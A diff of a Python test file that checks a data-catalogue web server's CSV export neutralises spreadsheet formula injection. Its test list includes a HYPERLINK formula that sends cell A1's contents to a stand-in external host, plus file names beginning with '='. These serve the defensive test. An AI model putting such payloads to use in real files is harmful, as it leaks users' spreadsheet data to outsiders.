@@ -11,7 +11,7 @@ import pytest
 from neuromirror.model import DatasetFacts
 from neuromirror.web.server.datasette_process import escape_cell
 from support.running_catalogue import run_catalogue
-from support.scripted_source import ScriptedDataset, ScriptedFile, ScriptedHarness, ScriptedSource
+from support.scripted_source import ScriptedDataset, ScriptedFile, ScriptedHarness
 
 TITLES = [
     '=HYPERLINK("http://x.example.org/?"&A1,"open")',
@@ -46,10 +46,10 @@ def test_no_part_of_a_text_is_a_formula_in_a_spreadsheet_with_semicolons(
     assert escape_cell(value) == demo_harness
 
 
-def test_no_cell_of_any_csv_is_a_formula(box: ScriptedHarness, source: ScriptedSource) -> None:
+def test_no_cell_of_any_csv_is_a_formula(box: ScriptedHarness) -> None:
     for number, title in enumerate(TITLES):
         facts = DatasetFacts(title=title)
-        source.scripted_datasets[f"thing{number}"] = ScriptedDataset(
+        box.datasets[f"thing{number}"] = ScriptedDataset(
             {f"=a{number}.txt": ScriptedFile(b"1")}, facts=facts
         )
     box.sync()
